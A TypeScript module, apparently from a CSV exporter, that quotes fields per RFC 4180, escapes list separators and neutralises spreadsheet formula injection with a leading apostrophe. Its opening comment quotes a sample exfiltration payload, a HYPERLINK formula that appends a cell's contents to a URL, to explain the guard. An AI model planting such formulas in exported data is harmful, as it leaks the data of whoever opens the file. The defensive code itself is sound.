/**
 * A cell a spreadsheet would run as a formula: Excel, LibreOffice and Google Sheets take a leading
 * = + - @ as one, and a tab or carriage return before it can hide it, so a transcription such as
 * =HYPERLINK("http://…?"&A1) could send the sheet's data away when someone opens the file (CSV
 * injection, OWASP). A leading apostrophe, the usual guard, makes the cell plain text.
 */
const FORMULA_START = /^[=+\-@\t\r]/u;
const NEEDS_QUOTES = /[",\r\n]/u;

/**
 * One field as RFC 4180 writes it: in quotes, with quotes doubled, when it holds a quote, comma
 * or line break. Text is guarded against formulas; numbers are the exporter's own and are not.
 */
export function csvField(value: string | number): string {
  const text = typeof value === 'number' ? String(value) : FORMULA_START.test(value) ? `'${value}` : value;
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

export const csvRow = (fields: readonly (string | number)[]): string => fields.map(csvField).join(',');

/**
 * A list in one field, joined by semicolons. A tag or a name may hold a semicolon itself, so a
 * semicolon or backslash inside an item is escaped with a backslash and the list splits back whole.
 */
export const csvList = (items: readonly string[]): string => items.map((item) => item.replace(/[\\;]/gu, '\\$&')).join(';');
